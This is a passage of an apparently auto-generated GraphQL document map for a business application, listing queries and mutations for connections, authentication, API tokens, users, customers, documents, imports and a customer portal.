    "\n  mutation FileKitCreate($input: CreateConnectionInput!) {\n    createConnection(input: $input) { __typename ... on MutationCreateConnectionSuccess { data { id } } ... on Error { message } }\n  }\n": types.FileKitCreateDocument,
    "\n  mutation FileKitUpdate($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n": types.FileKitUpdateDocument,
    "\n  mutation FileKitRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n": types.FileKitRunDocument,
    "\n  query FileKitFiles($id: ID!) { connectionFiles(connectionId: $id, first: 100) { edges { node { name url } } } }\n": types.FileKitFilesDocument,
    "\n  mutation KitCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id } }\n      ... on Error { message }\n    }\n  }\n": types.KitCreateConnectionDocument,
    "\n  mutation KitRunConnection($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess {\n        data { id status }\n      }\n      ... on Error { message }\n    }\n  }\n": types.KitRunConnectionDocument,
    "\n  mutation SieCreateConnection($settings: JSON) {\n    createConnection(input: { connectorId: \"sie\", name: \"SIE-fil\", settings: $settings }) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id hasCredentials connector { credentialKind } } }\n      ... on Error { message }\n    }\n  }\n": types.SieCreateConnectionDocument,
    "\n  mutation SieUpdateConnection($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n": types.SieUpdateConnectionDocument,
    "\n  mutation SieRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n": types.SieRunDocument,
    "\n  mutation SieReexport($id: ID!, $invoiceIds: [ID!]!) {\n    reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) {\n      __typename\n      ... on MutationReexportInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on Error { message }\n    }\n  }\n": types.SieReexportDocument,
    "\n  mutation SieCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n": types.SieCheckDocument,
    "\n  query SieFiles($id: ID!) {\n    connectionFiles(connectionId: $id, first: 20) {\n      edges { node { id name contentType size sha256 flowId url createdAt run { id } } }\n    }\n  }\n": types.SieFilesDocument,
    "\n  query SieRunFiles($id: ID!) { node(id: $id) { ... on ConnectorRun { files { id name size url } } } }\n": types.SieRunFilesDocument,
    "\n  mutation SieReexportSupplier($id: ID!, $supplierInvoiceIds: [ID!]!) {\n    reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) {\n      __typename\n      ... on MutationReexportSupplierInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message path }\n    }\n  }\n": types.SieReexportSupplierDocument,
    "\n  mutation Login($input: LoginInput!) {\n    login(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on TooManyAttemptsError { retryAfterSeconds retryAt }\n      ... on MutationLoginSuccess {\n        data {\n          __typename\n          ... on LoginSession { sessionId accessToken accessTokenExpiresAt refreshToken refreshTokenExpiresAt }\n          ... on SecondFactorChallenge { challenge expiresAt }\n          ... on CompanyChoice { companies { id name } }\n        }\n      }\n    }\n  }\n": types.LoginDocument,
    "\n  mutation RefreshSession($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationRefreshSessionSuccess { data { sessionId accessToken refreshToken } }\n    }\n  }\n": types.RefreshSessionDocument,
    "query LoginMe { me { id email totpEnabled hasPassword } }": types.LoginMeDocument,
    "\n  query AuthMe {\n    me {\n      id\n      name\n      email\n      signature\n      active\n      permissions\n    }\n  }\n": types.AuthMeDocument,
    "\n  query AuthMeGroups {\n    me { id groups { id name } }\n  }\n": types.AuthMeGroupsDocument,
    "\n  query AuthPermissions {\n    permissions { permission description }\n  }\n": types.AuthPermissionsDocument,
    "\n  query AuthUsers($includeInactive: Boolean, $first: Int) {\n    users(includeInactive: $includeInactive, first: $first) {\n      edges { node { id name email signature active } }\n      pageInfo { hasNextPage }\n    }\n  }\n": types.AuthUsersDocument,
    "\n  query AuthGroups {\n    groups { id name permissions members { id } }\n  }\n": types.AuthGroupsDocument,
    "\n  query AuthApiTokens($includeRevoked: Boolean) {\n    apiTokens(includeRevoked: $includeRevoked) {\n      id\n      name\n      tokenPrefix\n      lastUsedAt\n      expiresAt\n      revokedAt\n      revokedBy\n      active\n      createdBy\n      user { id }\n    }\n  }\n": types.AuthApiTokensDocument,
    "\n  mutation AuthCreateApiToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) {\n      __typename\n      ... on MutationCreateApiTokenSuccess {\n        data {\n          token\n          apiToken { id name tokenPrefix expiresAt lastUsedAt revokedAt active user { id } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.AuthCreateApiTokenDocument,
    "\n  mutation AuthRevokeApiToken($id: ID!) {\n    revokeApiToken(id: $id) {\n      __typename\n      ... on MutationRevokeApiTokenSuccess {\n        data { id name revokedAt revokedBy active }\n      }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.AuthRevokeApiTokenDocument,
    "\n  mutation AuthCreateUser($input: CreateUserInput!) {\n    createUser(input: $input) {\n      __typename\n      ... on MutationCreateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.AuthCreateUserDocument,
    "\n  mutation AuthUpdateUser($input: UpdateUserInput!) {\n    updateUser(input: $input) {\n      __typename\n      ... on MutationUpdateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.AuthUpdateUserDocument,
    "\n  mutation AuthCreateGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) {\n      __typename\n      ... on MutationCreateGroupSuccess {\n        data { id name permissions createdBy }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.AuthCreateGroupDocument,
    "\n  mutation AuthUpdateGroup($input: UpdateGroupInput!) {\n    updateGroup(input: $input) {\n      __typename\n      ... on MutationUpdateGroupSuccess {\n        data { id name permissions members { id } }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.AuthUpdateGroupDocument,
    "\n  mutation AuthDeleteGroup($id: ID!) {\n    deleteGroup(id: $id) {\n      __typename\n      ... on MutationDeleteGroupSuccess { data }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.AuthDeleteGroupDocument,
    "\n  query HistCustomer($id: ID!) {\n    node(id: $id) {\n      ... on Customer {\n        history(first: 10) { edges { node { at by changes { field from to hidden } } } }\n        contacts(first: 5) { edges { node { id history(first: 5) { edges { node { by changes { field from to hidden } } } } } } }\n      }\n    }\n  }\n": types.HistCustomerDocument,
    "\n  mutation HistUpdate($input: UpdateCustomerInput!) { updateCustomer(input: $input) { __typename ... on Error { message } } }\n": types.HistUpdateDocument,
    "\n  query HistProject($id: ID!) { node(id: $id) { ... on Project { history(first: 5) { edges { node { by changes { field from to } } } } } } }\n": types.HistProjectDocument,
    "\n  mutation HistProjectUpdate($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n": types.HistProjectUpdateDocument,
    "\n  query HistInvoice($id: ID!) { node(id: $id) { ... on Invoice { history(first: 10) { edges { node { by changes { field from to } } } } } } }\n": types.HistInvoiceDocument,
    "\n  mutation HistImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) { __typename ... on MutationImportCustomersSuccess { data { committed updated } } ... on Error { message } }\n  }\n": types.HistImportDocument,
    "\n  mutation HealthCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id pauseAfterFailures health { consecutiveFailures paused lastRunStatus } } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n": types.HealthCreateConnectionDocument,
    "\n  mutation HealthUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id pauseAfterFailures } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n": types.HealthUpdateConnectionDocument,
    "\n  query HealthOfConnection($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        health { lastRunStatus lastRunAt consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt }\n      }\n    }\n  }\n": types.HealthOfConnectionDocument,
    "\n  mutation HealthRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status dryRun notification } }\n      ... on Error { message code }\n    }\n  }\n": types.HealthRunDocument,
    "\n  mutation HealthResume($id: ID!) {\n    resumeConnection(id: $id) {\n      __typename\n      ... on MutationResumeConnectionSuccess { data { id health { consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt } } }\n      ... on Error { message code }\n    }\n  }\n": types.HealthResumeDocument,
    "\n  mutation NumCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.NumCreateDocument,
    "mutation NumDelete($id: ID!) { deleteCustomer(id: $id) { __typename } }": types.NumDeleteDocument,
    "\n  mutation NumSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename } }\n": types.NumSettingsDocument,
    "\n  mutation NumImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed created rows { customerNumber outcome } } }\n      ... on Error { code message }\n    }\n  }\n": types.NumImportDocument,
    "\n  mutation CsCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { message } } }\n": types.CsCustomerDocument,
    "\n  mutation CsProject($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess { data { id } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": types.CsProjectDocument,
    "\n  mutation CsUpdateProject($input: UpdateProjectInput!) {\n    updateProject(input: $input) { __typename ... on ValidationError { issues { path code message } } }\n  }\n": types.CsUpdateProjectDocument,
    "\n  mutation CsInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess { data { id revenueLines { id } accountingBasis { id } } }\n      ... on Error { message }\n    }\n  }\n": types.CsInvoiceDocument,
    "\n  mutation CsLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n": types.CsLockDocument,
    "\n  mutation CsRevenue($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n": types.CsRevenueDocument,
    "mutation CsRules($rules: [PostingRuleInput!]!) { setRevenuePostingRules(rules: $rules) { __typename } }": types.CsRulesDocument,
    "mutation CsAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": types.CsAccountDocument,
    "\n  mutation CsRevenueLine($id: ID!, $input: RevenueLineInput!) { updateInvoiceRevenueLine(id: $id, input: $input) { __typename } }\n": types.CsRevenueLineDocument,
    "\n  mutation CsBasisRow($id: ID!, $input: AccountingBasisRowInput!) { updateAccountingBasisRow(id: $id, input: $input) { __typename ... on Error { message } } }\n": types.CsBasisRowDocument,
    "\n  mutation CuInvite($customerId: ID!, $email: String!, $rights: [CustomerUserRight!]!) {\n    inviteCustomerUser(customerId: $customerId, email: $email, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteCustomerUserSuccess { data { email rights expiresAt customer { id } } }\n    }\n  }\n": types.CuInviteDocument,
    "\n  mutation CuAccept($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n": types.CuAcceptDocument,
    "\n  mutation CuLogin($input: LoginInput!) {\n    login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename ... on LoginSession { accessToken refreshToken } } } }\n  }\n": types.CuLoginDocument,
    "\n  mutation CuRefresh($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) { __typename ... on Error { code } ... on MutationRefreshSessionSuccess { data { accessToken } } }\n  }\n": types.CuRefreshDocument,
    "\n  mutation CuSetRights($userId: ID!, $rights: [CustomerUserRight!]!) {\n    setCustomerUserRights(userId: $userId, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationSetCustomerUserRightsSuccess { data { id customerRights } }\n    }\n  }\n": types.CuSetRightsDocument,
    "\n  mutation CuDelete($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code path } ... on MutationDeleteCustomerUserSuccess { data } } }\n": types.CuDeleteDocument,
    "\n  query CuPortal {\n    customerPortal { number name rights invoiceCity }\n  }\n": types.CuPortalDocument,
    "\n  query CuPortalInvoices {\n    customerPortal {\n      invoices(first: 10) { totalCount edges { node { number total amountToPay dueDate ocrReference paidDate pdfUrl projectNumber } } }\n    }\n  }\n": types.CuPortalInvoicesDocument,
    "\n  query CuPortalProjects { customerPortal { projects(first: 10) { totalCount edges { node { number name statusCode statusName } } } } }\n": types.CuPortalProjectsDocument,
    "\n  query CuPortalDocuments { customerPortal { documents(first: 10) { edges { node { name url folder { name } } } } documentFolders { name } } }\n": types.CuPortalDocumentsDocument,
    "\n  query CuCustomerUsers($id: ID!) { customer(id: $id) { id users { id email customerRights active lastLoginAt } } }\n": types.CuCustomerUsersDocument,
    "query CuUsers { users(first: 100) { edges { node { id email customer { id } customerRights } } } }": types.CuUsersDocument,
    "\n  mutation CuCreateCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": types.CuCreateCustomerDocument,
    "\n  mutation CuCreateProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on Error { code path } ... on ValidationError { issues { path code } } ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": types.CuCreateProjectDocument,
    "\n  mutation CuCreateInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { message } } }\n": types.CuCreateInvoiceDocument,
    "mutation CuLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }": types.CuLockDocument,
    "\n  mutation CuAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": types.CuAssignDocument,
    "\n  mutation CuUpdateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": types.CuUpdateUserDocument,
    "\n  mutation CuCreateToken($input: CreateApiTokenInput!) { createApiToken(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": types.CuCreateTokenDocument,
    "\n  mutation CuUpdateInvoice($input: UpdateInvoiceInput!) { updateInvoice(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": types.CuUpdateInvoiceDocument,
    "\n  mutation CuDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code path message } } }\n": types.CuDeleteCustomerDocument,
    "query CuGroups { groups { id name } }": types.CuGroupsDocument,
    "mutation CuInviteStaff($email: String!) { inviteUser(email: $email) { __typename ... on Error { code path } } }": types.CuInviteStaffDocument,
    "query CuMe { me { email customerRights } }": types.CuMeDocument,
    "\n  mutation VisCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n": types.VisCustomerDocument,
    "mutation VisAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename } }": types.VisAssignDocument,
    "\n  mutation VisProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": types.VisProjectDocument,
    "\n  mutation VisInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id } } } }\n": types.VisInvoiceDocument,
    "\n  mutation VisBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename } }\n": types.VisBuyersDocument,
    "\n  query VisLists {\n    projects(first: 50) { edges { node { id name customer { id name personalIdentityNumber } contact { id personalIdentityNumber } } } }\n    invoices(first: 50) {\n      edges { node { id title customer { id name personalIdentityNumber } contact { id name } buyers { name contact { id personalIdentityNumber } } } }\n    }\n  }\n": types.VisListsDocument,
    "\n  query VisOne($project: ID!, $invoice: ID!) {\n    project(id: $project) { id customer { id name } contact { id } }\n    invoice(id: $invoice) { id customer { id name } contact { id } buyers { contact { id } } }\n    node(id: $project) { ... on Project { customer { id personalIdentityNumber } } }\n  }\n": types.VisOneDocument,
    "query VisUsers { users(first: 100) { edges { node { email customer { id name } } } } }": types.VisUsersDocument,
    "\n  mutation CustCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber isConstructionCompany\n          vatDisplayType showsVat language comments active createdBy modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          invoiceEmail phone mobile email\n          paymentTerm { code days }\n          assignedUser { signature }\n          customFields { key label type value }\n          contacts(first: 20) {\n            totalCount\n            edges { node { id name personalIdentityNumber isMainContact brfOrganisationNumber apartmentNumber propertyDesignation rotMissing } }\n          }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.CustCreateDocument,
    "\n  mutation CustUpdate($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) {\n      __typename\n      ... on MutationUpdateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber showsVat vatDisplayType\n          phone email comments modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          customFields { key value }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.CustUpdateDocument,
    "\n  query CustList($first: Int, $after: String, $search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { id number name active } }\n    }\n  }\n": types.CustListDocument,
    "\n  query CustGet($id: ID!) {\n    customer(id: $id) { id number name active assignedUser { signature } contacts(first: 20) { totalCount edges { node { id name isMainContact } } } }\n  }\n": types.CustGetDocument,
    "\n  query CustByNumber($number: String!) {\n    customerByNumber(number: $number) { id name }\n  }\n": types.CustByNumberDocument,
    "\n  mutation CustLifecycle($id: ID!) {\n    inactivateCustomer(id: $id) {\n      __typename\n      ... on MutationInactivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n": types.CustLifecycleDocument,
    "\n  mutation CustActivate($id: ID!) {\n    activateCustomer(id: $id) {\n      __typename\n      ... on MutationActivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n": types.CustActivateDocument,
    "\n  mutation CustChangeNumber($id: ID!, $number: String!) {\n    changeCustomerNumber(id: $id, number: $number) {\n      __typename\n      ... on MutationChangeCustomerNumberSuccess { data { number } }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.CustChangeNumberDocument,
    "\n  mutation CustDelete($id: ID!) {\n    deleteCustomer(id: $id) {\n      __typename\n      ... on MutationDeleteCustomerSuccess { data }\n      ... on Error { code message }\n    }\n  }\n": types.CustDeleteDocument,
    "\n  mutation CustAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { assignedUser { signature } } }\n      ... on Error { code path }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.CustAssignDocument,
    "\n  mutation CustAddContact($customerId: ID!, $input: ContactInput!) {\n    addContact(customerId: $customerId, input: $input) {\n      __typename\n      ... on MutationAddContactSuccess { data { id name personalIdentityNumber isMainContact propertyDesignation rotMissing createdBy customer { id } } }\n      ... on Error { code path }\n    }\n  }\n": types.CustAddContactDocument,
    "\n  mutation CustUpdateContact($id: ID!, $input: ContactInput!) {\n    updateContact(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateContactSuccess { data { id name email isMainContact } }\n      ... on Error { code path }\n    }\n  }\n": types.CustUpdateContactDocument,
    "\n  mutation CustRemoveContact($id: ID!) {\n    removeContact(id: $id) {\n      __typename\n      ... on MutationRemoveContactSuccess { data }\n      ... on Error { code }\n    }\n  }\n": types.CustRemoveContactDocument,
    "\n  mutation CustCopy($customerId: ID!) {\n    copyCustomerToContact(customerId: $customerId) {\n      __typename\n      ... on MutationCopyCustomerToContactSuccess { data { name personalIdentityNumber mobile phone email } }\n      ... on Error { code }\n    }\n  }\n": types.CustCopyDocument,
    "\n  mutation CustDefineField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) {\n      __typename\n      ... on MutationCreateCustomFieldDefinitionSuccess { data { id key } }\n      ... on Error { code path }\n    }\n  }\n": types.CustDefineFieldDocument,
    "\n  mutation CustSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { customerNumberMinLength customerNumberMaxLength customerNumberStart } }\n      ... on Error { code path }\n    }\n  }\n": types.CustSettingsDocument,
    "\n  query CustPaymentTerms { paymentTerms { id code days } }\n": types.CustPaymentTermsDocument,
    "\n  query CustMe { me { id signature } }\n": types.CustMeDocument,
    "\n      query CustPage($first: Int!) {\n        customers(first: $first) {\n          edges { node { id name contacts(first: 10) { edges { node { id name rotMissing } } } } }\n        }\n      }\n    ": types.CustPageDocument,
    "\n  mutation DocCreateCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { code message } }\n  }\n": types.DocCreateCustomerDocument,
    "\n  mutation DocCreateProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Tak\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } ... on Error { code message } }\n  }\n": types.DocCreateProjectDocument,
    "query DocMe { me { id } }": types.DocMeDocument,
    "\n  mutation DocDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message path } } }\n": types.DocDeleteCustomerDocument,
    "\n  mutation DocUploadCustomer($input: UploadCustomerDocumentInput!) {\n    uploadCustomerDocument(input: $input) {\n      __typename\n      ... on MutationUploadCustomerDocumentSuccess { data { id name contentType size sha256 createdBy createdAt url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.DocUploadCustomerDocument,
    "\n  mutation DocUploadProject($input: UploadProjectDocumentInput!) {\n    uploadProjectDocument(input: $input) {\n      __typename\n      ... on MutationUploadProjectDocumentSuccess { data { id name contentType size url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.DocUploadProjectDocument,
    "\n  query DocCustomerDocs($id: ID!, $folderId: ID, $topLevel: Boolean) {\n    customer(id: $id) {\n      id\n      documents(first: 50, folderId: $folderId, topLevel: $topLevel) { edges { node { id name contentType size url folder { name } } } }\n      documentFolders { id name createdBy }\n    }\n  }\n": types.DocCustomerDocsDocument,
    "\n  query DocProjectDocs($id: ID!) {\n    node(id: $id) { ... on Project { documents(first: 50) { edges { node { id name folder { name } } } } documentFolders { id name } } }\n  }\n": types.DocProjectDocsDocument,
    "query DocNode($id: ID!) { node(id: $id) { id ... on Document { name } } }": types.DocNodeDocument,
    "query DocCustomers { customers(first: 50) { edges { node { id name documents(first: 10) { edges { node { name } } } } } } }": types.DocCustomersDocument,
    "\n  mutation DocDelete($id: ID!) { deleteDocument(id: $id) { __typename ... on MutationDeleteDocumentSuccess { data } ... on Error { code path } ... on ForbiddenError { permission } } }\n": types.DocDeleteDocument,
    "\n  mutation DocCreateCustomerFolder($input: CreateCustomerDocumentFolderInput!) {\n    createCustomerDocumentFolder(input: $input) {\n      __typename\n      ... on MutationCreateCustomerDocumentFolderSuccess { data { id name } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.DocCreateCustomerFolderDocument,
    "\n  mutation DocCreateProjectFolder($input: CreateProjectDocumentFolderInput!) {\n    createProjectDocumentFolder(input: $input) { __typename ... on MutationCreateProjectDocumentFolderSuccess { data { id name } } ... on Error { code path } }\n  }\n": types.DocCreateProjectFolderDocument,
    "\n  mutation DocRenameFolder($input: RenameDocumentFolderInput!) {\n    renameDocumentFolder(input: $input) { __typename ... on MutationRenameDocumentFolderSuccess { data { id name } } ... on Error { code path } ... on ValidationError { issues { path code } } }\n  }\n": types.DocRenameFolderDocument,
    "\n  mutation DocDeleteFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on MutationDeleteDocumentFolderSuccess { data } ... on Error { code path } } }\n": types.DocDeleteFolderDocument,
    "query FsVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType url } } } } }": types.FsVoucherFilesDocument,
    "\n  mutation FsCreateSupplierInvoice($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess { data { id document { fileName contentType url } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.FsCreateSupplierInvoiceDocument,
    "\n  mutation ImpCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess {\n        data {\n          mode committed message format encoding sheet headerRow totalRows created updated unchanged errorRows unknownColumns\n          columns { header field }\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.ImpCustomersDocument,
    "\n  mutation ImpContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess {\n        data {\n          mode committed message totalRows created updated unchanged errorRows unknownColumns\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.ImpContactsDocument,
    "\n  mutation ImpErrorRows($file: File!) {\n    importCustomers(file: $file) {\n      ... on MutationImportCustomersSuccess { data { totalRows rows(outcomes: [ERROR], first: 2) { row outcome } } }\n    }\n  }\n": types.ImpErrorRowsDocument,
    "\n  query ImpCustomer($number: String!) {\n    customerByNumber(number: $number) {\n      id number name type organisationNumber personalIdentityNumber vatNumber phone email active modifiedBy\n      invoiceAddress { address1 postcode city countryCode }\n      mailAddress { address1 postcode city }\n      paymentTerm { code }\n      assignedUser { signature }\n      customFields { key value }\n      contacts(first: 20) {\n        totalCount\n        edges { node { id name personalIdentityNumber brfOrganisationNumber apartmentNumber propertyDesignation phone mobile email isMainContact } }\n      }\n    }\n  }\n": types.ImpCustomerDocument,
    "\n  query ImpCount { customers(first: 1) { totalCount } }\n": types.ImpCountDocument,
    "\n  mutation ImpField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename }\n  }\n": types.ImpFieldDocument,
    "\n  mutation ImpAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) { __typename }\n  }\n": types.ImpAssignDocument,
    "\n  query ImpMe { me { id signature } }\n": types.ImpMeDocument,
    "\n  query IntConnectors { connectors { id name version credentialKind settingsSchema flows { id direction entity base description } } }\n": types.IntConnectorsDocument,
    "\n  mutation IntCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id name hasCredentials settings enabledFlows notificationEmails flows { id base enabled } } }\n      ... on ValidationError { message issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n": types.IntCreateConnectionDocument,
